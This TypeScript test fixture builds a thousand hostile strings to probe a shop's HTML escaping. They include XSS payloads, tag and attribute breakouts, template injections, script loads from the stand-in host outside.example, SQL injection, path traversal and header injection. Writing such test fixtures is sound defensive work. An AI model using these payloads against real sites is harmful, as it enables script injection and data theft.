// A thousand texts by which people have taken over pages, as names and sentences of a shop: the attacks on cleaned HTML,
// and those on the places where a shop puts text (attributes, titles, structured data, feeds, addresses). Each calls
// `executed()` in a page that is taken in, or asks the host `outside.example` for something.
import { XSS_ADDRESSES, XSS_PAYLOADS } from '../../contract-tests/harness/xss-payloads.js';

const CALL = 'executed()';
const IMAGE = `<img src=x onerror=${CALL}>`;
const SCRIPT = `<script>${CALL}</script>`;
/** How many texts there are. */
export const HOSTILE_COUNT = 1000;

/** Ways out of an element that a page puts text in. */
const CLOSED = ['script', 'title', 'style', 'textarea', 'template', 'noscript', 'a', 'bdi', 'mark', 'button', 'svg'];
const closings = (): string[] =>
  CLOSED.flatMap((tag) => [
    `</${tag}>${IMAGE}`,
    `</${tag.toUpperCase()} >${SCRIPT}`,
    `</${tag}\t\n/x=">">${IMAGE}`,
    `World</${tag}/>${SCRIPT}<${tag}>Guard`,
  ]);

/** Ways out of the value of an attribute. */
const QUOTES = ['"', "'", '`', '&quot;', '&#34;', '&#x27', '\\"', "\\'", '\u201d', '\u00a0"', '\n"', '%22', '" "'];
const attributes = (): string[] =>
  QUOTES.flatMap((quote) => [
    `World ${quote} onmouseover=${CALL} x=${quote}`,
    `${quote} autofocus onfocus=${CALL} tabindex=1 ${quote}`,
    `${quote}>${IMAGE}`,
    `${quote} style=animation:x onanimationstart=${CALL} ${quote}`,
    `x${quote} src=https://outside.example/picture.png srcset=https://outside.example/2x.png 2x`,
  ]);

/** What ends a text in JSON, or a script with JSON in it. */
const structured = (): string[] => [
  `"}</script>${IMAGE}`,
  `","@type":"Thing"}</script>${SCRIPT}`,
  `\\"}</script>${SCRIPT}`,
  `\\u003c/script\\u003e${SCRIPT}`,
  `<!--<script>${CALL}//`,
  `<!--<script></script>${IMAGE}-->`,
  `--></script>${IMAGE}`,
  `]]></script>${IMAGE}`,
  `\u2028${CALL}\u2029//`,
  `</script\u0009x>${IMAGE}`,
  `</scr\u200bipt>${IMAGE}`,
  `"+${CALL}+"`,
  `'-${CALL}-'`,
  `\${${CALL}}`,
  `{"__html":"${IMAGE.replaceAll('"', '')}"}`,
  `{"toString":"${CALL}"}`,
  `__proto__`,
  `constructor`,
  `{{constructor.constructor('${CALL}')()}}`,
  `{{{${IMAGE}}}}`,
  `<%- ${IMAGE} %>`,
  `<%= ${CALL} %>`,
  `{%raw%}${IMAGE}{%endraw%}`,
  `#{${CALL}}`,
  `[[\${${CALL}}]]`,
  `[x](javascript:${CALL})`,
  `![x](https://outside.example/picture.png)`,
  `$&${IMAGE}$'$\``,
  `%3Cimg src=x onerror=${CALL}%3E`,
  `\\x3cimg src=x onerror=${CALL}\\x3e`,
];

/** What feeds and site maps may take for markup. */
const feeds = (): string[] => [
  `]]>${IMAGE}<![CDATA[`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
  `</title><script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
  `<?xml-stylesheet href="https://outside.example/s.xsl" type="text/xsl"?>`,
  `<!DOCTYPE x SYSTEM "https://outside.example/x.dtd">`,
  `<!ENTITY x SYSTEM "https://outside.example/">&x;`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `World & Guard &notit; &#0; &#x110000; &`,
  '\u000b\u000c\u001b World',
  '\ufffe\uffff World',
  '\ud800 World',
];

/** What asks another host for something. */
const requests = (): string[] =>
  [
    '<link rel=stylesheet href=//outside.example/s.css>',
    '<link rel=preconnect href=//outside.example>',
    '<link rel=prefetch href=https://outside.example/page>',
    '<img src=//outside.example/p.png>',
    '<img srcset="//outside.example/p.png 1x">',
    '<picture><source srcset=//outside.example/p.webp><img></picture>',
    '<svg><image href=//outside.example/p.svg></svg>',
    '<video poster=//outside.example/p.png src=//outside.example/v.mp4 autoplay></video>',
    '<audio src=//outside.example/a.mp3 autoplay></audio>',
    '<iframe src=//outside.example/></iframe>',
    '<object data=//outside.example/></object>',
    '<embed src=//outside.example/>',
    '<style>@import "//outside.example/s.css";*{background:url(//outside.example/b)}</style>',
    '<p style="background:url(//outside.example/b)">World</p>',
    '<base href=//outside.example/>',
    '<meta http-equiv=refresh content="0;url=//outside.example/">',
    '<form action=//outside.example/><input autofocus></form>',
    '<script src=//outside.example/s.js></script>',
    '<script type=module src=//outside.example/s.mjs></script>',
    '<body background=//outside.example/b>',
    '<table background=//outside.example/b>',
    '<input type=image src=//outside.example/i>',
    '<a href=//outside.example/ ping=//outside.example/ping>World</a>',
    '<html manifest=//outside.example/m>',
  ].flatMap((tag) => [tag, `">${tag}`]);

/** Marks that turn, hide or pile up what stands around them, with an attack behind. */
const marks = (): string[] =>
  [
    '\u202e',
    '\u2066\u202e',
    '\u2067',
    '\u200f',
    '\u061c',
    '\u200b',
    '\ufeff',
    '\u2060',
    '\u00ad',
    '\u180e',
    '\u3164',
    '\u{e0041}',
    '\u{1f469}\u200d\u{1f4bb}',
    'Z\u0321\u0337\u0358\u035d\u0353a\u031b\u0334\u0300l\u0322\u0337g\u0328\u0338\u030e\u0353o',
    '\ufdfd',
    '\u{12031}',
  ].flatMap((mark) => [
    `${mark}World${mark}Guard`,
    `${mark}>tpircs/<)(detucexe>tpircs<`,
    `<scr${mark}ipt>${CALL}</scr${mark}ipt>${mark}${IMAGE}`,
    `${mark}"${mark}>${IMAGE}`,
  ]);

/** What no line can hold. */
const shapes = (): string[] => [
  'W'.repeat(128),
  '<'.repeat(128),
  '&'.repeat(128),
  `${'<b>'.repeat(30)}${IMAGE}`,
  `${'a'.repeat(90)}${IMAGE}`,
  `World\r\nSet-Cookie: x=1\r\n\r\n${IMAGE}`,
  `World\tGuard\n${IMAGE}`,
  '../../../../etc/passwd',
  "' OR 1=1 --",
  '; DROP TABLE products',
  '%00%0d%0aLocation:https://outside.example/',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  '-1',
];

/** Links to what is no page, or to a page with something in its address. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  ...XSS_ADDRESSES.map((address) => address.replaceAll('\u0000', '')),
  `https://outside.example/"onmouseover=${CALL} x="`,
  `https://outside.example/'onclick='${CALL}`,
  `https://outside.example/><img src=x onerror=${CALL}>`,
  `https://outside.example/</script>${IMAGE}`,
  `https://outside.example@javascript:${CALL}`,
  `http:javascript:${CALL}`,
  `mailto:a@example.com?subject="><img src=x onerror=${CALL}>`,
  `file:///etc/passwd`,
  `intent://x#Intent;scheme=javascript;S.browser_fallback_url=javascript:${CALL};end`,
  `https:${IMAGE}`,
  `about:blank#${IMAGE}`,
  `/search?q=${IMAGE}`,
  `#${IMAGE}`,
];

/** As many items, evenly spread, as are asked for. */
function spread(items: readonly string[], count: number): string[] {
  return Array.from({ length: count }, (_, place) => items[Math.floor((place * items.length) / count)]!);
}

/** Without NUL, which no database keeps, and as long as a name may be. */
const toName = (text: string): string => text.replaceAll('\u0000', '').slice(0, 128);

function thousand(): readonly string[] {
  const own = [closings, attributes, structured, feeds, requests, marks, shapes].flatMap((family) => family());
  const texts = new Set([...own, ...spread(XSS_PAYLOADS, HOSTILE_COUNT - own.length)].map(toName));
  // Where two were the same, others take the place.
  for (const payload of XSS_PAYLOADS) if (texts.size < HOSTILE_COUNT) texts.add(toName(payload));
  return [...texts];
}

/** A thousand different texts. */
export const HOSTILE_TEXTS: readonly string[] = thousand();
